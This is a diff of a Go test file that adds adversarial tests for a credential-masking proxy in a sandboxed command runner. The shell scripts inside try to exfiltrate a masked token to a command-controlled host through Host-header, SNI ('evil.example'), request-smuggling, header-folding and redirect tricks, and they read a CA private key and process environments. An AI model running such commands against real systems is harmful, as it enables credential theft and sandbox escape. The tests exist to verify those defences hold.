@@ -15,9 +15,12 @@ import (
 	"io"
 	"net/http"
 	"net/http/httptest"
+	"os"
+	"path/filepath"
 	"strings"
 	"sync"
 	"testing"
+	"time"
 )
 
 // adv31Origin is a TLS host on 127.0.0.1 (its CA given to the server only) that reflects the
@@ -28,6 +31,9 @@ type adv31Origin struct {
 	pool *x509.CertPool
 	mu   sync.Mutex
 	seen []string // "path Authorization"
+	all  []string // "host request-URI proto headers" of every request
+	// redirect is where /redir sends the client.
+	redirect string
 }
 
 func startAdv31Origin(t *testing.T) *adv31Origin {
@@ -42,6 +48,7 @@ func startAdv31Origin(t *testing.T) *adv31Origin {
 		a := r.Header.Get("Authorization")
 		o.mu.Lock()
 		o.seen = append(o.seen, r.URL.Path+" "+a)
+		o.all = append(o.all, fmt.Sprintf("%s %s %s %v", r.Host, r.RequestURI, r.Proto, r.Header))
 		o.mu.Unlock()
 		switch r.URL.Path {
 		case "/gzip": // compresses when the client asks for it, as most APIs do
@@ -78,6 +85,13 @@ func startAdv31Origin(t *testing.T) *adv31Origin {
 			rw.Flush() // then the deferred close ends the tunnel
 			return
 		}
+		if r.URL.Path == "/redir" {
+			o.mu.Lock()
+			to := o.redirect
+			o.mu.Unlock()
+			http.Redirect(w, r, to, http.StatusFound)
+			return
+		}
 		fmt.Fprintf(w, "auth=%s\n", a)
 	}))
 	o.srv.TLS = &tls.Config{Certificates: []tls.Certificate{*leaf}}
@@ -98,13 +112,36 @@ func (o *adv31Origin) received() []string {
 // with a fresh ACME_TOKEN whose custom provider is the origin, and returns the real token
 // and the command's output.
 func adv31Run(t *testing.T, o *adv31Origin, id, script string) (real, out string) {
+	real, out, _ = adv31RunState(t, o, id, script)
+	return real, out
+}
+
+// adv31RunState is adv31Run, also returning the server's state directory (its masking CA).
+func adv31RunState(t *testing.T, o *adv31Origin, id, script string) (real, out, stateDir string) {
 	t.Helper()
 	requireUserNamespaces(t)
 	netProxyTestHost(t) // skips without curl
 	mo := &maskOrigin{pool: o.pool}
-	ts, logs := maskTestServer(t, mo)
+	ts, logs := maskTestServer(t, mo, adv31Secrets)
 	tc := ts.connect(t)
 	real = maskFake(t, "acme_", maskTestAlnum, 32)
+	params := adv31Params(t, o, id, script, real)
+	out = tc.run(params).pty()
+	if strings.Contains(logs.String(), real) {
+		t.Errorf("the server's log holds the real ACME_TOKEN")
+	}
+	return real, out, ts.srv.mask.stateDir
+}
+
+// adv31Secrets gives the test server the secret files main gives a real one (secrets.go):
+// the masking CA's key among them, denied to every sandbox.
+func adv31Secrets(s *server) {
+	s.sandbox.setSecrets(secretFiles(&cliOptions{stateDir: s.mask.stateDir}))
+}
+
+// adv31Params is a masked PTY start of sh -c script under the routed read-only profile, with
+// ACME_TOKEN=real whose custom provider is o.
+func adv31Params(t *testing.T, o *adv31Origin, id, script, real string) map[string]any {
 	params := netProxyStartParams(t, id, script, map[string]any{
 		"domains":           map[string]string{"127.0.0.1": "allow"},
 		"credentialMasking": true,
@@ -116,11 +153,7 @@ func adv31Run(t *testing.T, o *adv31Origin, id, script string) (real, out string
 	params["tty"] = true
 	params["sandbox"] = netProxyTestSandbox("restricted")
 	params["enforceManagedNetwork"] = true
-	out = tc.run(params).pty()
-	if strings.Contains(logs.String(), real) {
-		t.Errorf("the server's log holds the real ACME_TOKEN")
-	}
-	return real, out
+	return params
 }
 
 // adv31Check fails t when the command saw the real token, after checking that the attempt
@@ -180,4 +213,140 @@ func TestAdv31UpgradeEcho(t *testing.T) {
 			`{ printf 'GET /upgrade HTTP/1.1\r\nHost: `+host+`\r\nAuthorization: Bearer %s\r\nConnection: Upgrade\r\nUpgrade: adv31\r\n\r\n' "$ACME_TOKEN"; } | timeout 20 `+
 			`openssl s_client -quiet -proxy "$P" -connect `+host+` -CAfile "$SSL_CERT_FILE" -verify_return_error 2>&1; echo "== done"`)
 	adv31Check(t, o, "/upgrade", real, out)
+}
+
+// adv31Recorder is a TLS host with a self-signed certificate standing for a host the command
+// controls: it records every request whole.
+type adv31Recorder struct {
+	srv *httptest.Server
+	mu  sync.Mutex
+	all []string
+}
+
+func startAdv31Recorder(t *testing.T) *adv31Recorder {
+	rec := &adv31Recorder{}
+	rec.srv = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<16))
+		rec.mu.Lock()
+		rec.all = append(rec.all, fmt.Sprintf("%s %s %s %v %s", r.Host, r.RequestURI, r.Proto, r.Header, body))
+		rec.mu.Unlock()
+		io.WriteString(w, "recorded\n")
+	}))
+	rec.srv.EnableHTTP2 = true
+	rec.srv.StartTLS()
+	t.Cleanup(rec.srv.Close)
+	return rec
+}
+
+func (rec *adv31Recorder) text() string {
+	rec.mu.Lock()
+	defer rec.mu.Unlock()
+	return strings.Join(rec.all, "\n")
+}
+
+// TestAdv31Refused: the attempts that did not get the real value out, kept as a guard. The
+// command, holding the stand-in, tries to make the proxy put the real token on a request to a
+// host it controls (another port of the allowed loopback: its own TLS host), or to read the
+// masking CA's key. Verdicts on the host: the recorder never receives the real value, the
+// origin receives it only in Authorization, the command's output never holds it nor the key.
+func TestAdv31Refused(t *testing.T) {
+	o := startAdv31Origin(t)
+	rec := startAdv31Recorder(t)
+	o.mu.Lock()
+	o.redirect = rec.srv.URL + "/redirected"
+	o.mu.Unlock()
+	oh := strings.TrimPrefix(o.url(), "https://")
+	ah := strings.TrimPrefix(rec.srv.URL, "https://")
+	sclient := func(label, servername, req string) string {
+		sn := ""
+		if servername != "" {
+			sn = " -servername " + servername
+		}
+		return `echo "== ` + label + `"; { printf '` + req + `' "$ACME_TOKEN" "$ACME_TOKEN"; } | timeout 10 openssl s_client -quiet -proxy "$P" -connect ` + oh + sn + ` -CAfile "$SSL_CERT_FILE" 2>&1 | grep -v '^depth\|^verify'; `
+	}
+	auth := `Authorization: Bearer %s\r\n`
+	script := `P=${HTTPS_PROXY:-$https_proxy}; P=${P#http://}; P=${P%/}; C="curl -sS --max-time 10"; ` +
+		// the stand-in straight to the command's own host
+		`echo "== direct"; $C -k -H "Authorization: Bearer $ACME_TOKEN" https://` + ah + `/direct; ` +
+		// the Host header (HTTP/1.1) or :authority (HTTP/2) naming the command's host
+		`echo "== host h1"; $C --http1.1 -H "Host: ` + ah + `" -H "Authorization: Bearer $ACME_TOKEN" ` + o.url() + `/hosth1; ` +
+		`echo "== host h2"; $C --http2 -H "Host: ` + ah + `" -H "Authorization: Bearer $ACME_TOKEN" ` + o.url() + `/hosth2; ` +
+		// an absolute-form request inside the intercepted tunnel
+		sclient("absolute", "", `GET https://`+ah+`/absolute HTTP/1.1\r\nHost: `+oh+`\r\n`+auth+`Connection: close\r\n\r\n`) +
+		// SNI naming another host
+		sclient("sni", "evil.example", `GET /sni HTTP/1.1\r\nHost: `+oh+`\r\n`+auth+`Connection: close\r\n\r\n`) +
+		// a kept-alive connection: the first request legitimate, the second for another host
+		sclient("keepalive", "", `GET /ka1 HTTP/1.1\r\nHost: `+oh+`\r\n`+auth+`\r\nGET https://`+ah+`/ka2 HTTP/1.1\r\nHost: `+ah+`\r\n`+auth+`Connection: close\r\n\r\n`) +
+		// header folding and duplicates: the real value goes only where Authorization goes
+		sclient("folding", "", `GET /fold HTTP/1.1\r\nHost: `+oh+`\r\nX-Fold: a\r\n Authorization: Bearer %s\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n`) +
+		// Proxy-Authorization and other headers carrying the stand-in
+		`echo "== other headers"; $C -H "Proxy-Authorization: Bearer $ACME_TOKEN" -H "X-Token: Bearer $ACME_TOKEN" -H "Cookie: t=$ACME_TOKEN" ` + o.url() + `/other; ` +
+		// the credential's host by another name (localhost) or as the proxy's absolute-form
+		`echo "== by name"; $C -k -H "Authorization: Bearer $ACME_TOKEN" https://localhost:` + strings.Split(oh, ":")[1] + `/byname; ` +
+		`echo "== plain http"; $C -H "Authorization: Bearer $ACME_TOKEN" http://` + oh + `/plain; ` +
+		// a redirect from the origin followed with the credential (--location-trusted)
+		`echo "== redirect"; $C -k --location-trusted -H "Authorization: Bearer $ACME_TOKEN" "` + o.url() + `/redir"; ` +
+		// the masking CA's key next to the bundle the command is told about
+		`echo "== ca"; ls -la "$(dirname "$SSL_CERT_FILE")"; cat "$(dirname "$SSL_CERT_FILE")/ca.key"; ` +
+		`echo "== environ"; for f in /proc/[0-9]*/environ; do tr '\0' '\n' < "$f" 2>/dev/null; done | grep -c ACME; ` +
+		`echo "== done"`
+	real, out, stateDir := adv31RunState(t, o, "adv31-refused", script)
+	if strings.Contains(out, real) {
+		t.Errorf("the command saw the real token:\n%s", out)
+	}
+	if strings.Contains(rec.text(), real) {
+		t.Errorf("the command's own host received the real token:\n%s", rec.text())
+	}
+	o.mu.Lock()
+	originAll := strings.Join(o.all, "\n")
+	o.mu.Unlock()
+	for _, line := range strings.Split(originAll, "\n") {
+		if strings.Contains(strings.ReplaceAll(line, "Authorization:[Bearer "+real+"]", ""), real) {
+			t.Errorf("the origin received the real token outside Authorization: %s", line)
+		}
+	}
+	if key, err := os.ReadFile(filepath.Join(stateDir, "mitm", "ca.key")); err != nil {
+		t.Errorf("no CA key on the host: %v", err)
+	} else if k := strings.TrimSpace(string(key)); strings.Contains(out, k[len(k)/2:len(k)/2+32]) {
+		t.Errorf("the command read the masking CA's key")
+	}
+	t.Logf("origin:\n%s\nrecorder:\n%s\ncommand:\n%s", originAll, rec.text(), out)
+}
+
+// TestAdv31CAKeyAfterRotate: the masking CA's key is denied to a sandbox by covering its path
+// in the sandbox's mount namespace; `exec-server mitm-ca rotate` renames a new key over that
+// path on the host, which detaches the cover in every other namespace, so a command that
+// was running at the rotation reads the new key. Verdict on the host: the key the command
+// printed after the rotation is the one now in <state>/mitm/ca.key.
+func TestAdv31CAKeyAfterRotate(t *testing.T) {
+	requireUserNamespaces(t)
+	netProxyTestHost(t)
+	o := startAdv31Origin(t)
+	ts, _ := maskTestServer(t, &maskOrigin{pool: o.pool}, adv31Secrets)
+	tc := ts.connect(t)
+	goFile := filepath.Join(t.TempDir(), "go")
+	script := `D=$(dirname "$SSL_CERT_FILE"); echo "== before"; cat "$D/ca.key"; echo "== ready"; ` +
+		`while [ ! -e ` + goFile + ` ]; do sleep 0.05; done; echo "== after"; cat "$D/ca.key"; echo "== done"`
+	params := adv31Params(t, o, "adv31-rotate", script, maskFake(t, "acme_", maskTestAlnum, 32))
+	tc.mustCall("process/start", params)
+	waitOutput(tc, "adv31-rotate", "pty", "== ready")
+	if _, err := rotateMITMCA(ts.srv.mask.stateDir, time.Now()); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(goFile, nil, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	out := waitClosed(tc, "adv31-rotate").pty()
+	key, err := os.ReadFile(filepath.Join(ts.srv.mask.stateDir, "mitm", "ca.key"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	before, after, _ := strings.Cut(out, "== ready")
+	if strings.Contains(before, "PRIVATE KEY") {
+		t.Errorf("the command read the CA key before the rotation:\n%s", before)
+	}
+	k := strings.TrimSpace(string(key))
+	if mid := k[len(k)/2 : len(k)/2+32]; strings.Contains(after, mid) {
+		t.Errorf("the command read the rotated masking CA key (the one on the host now):\n%s", tail(out, 1500))
+	}
 }
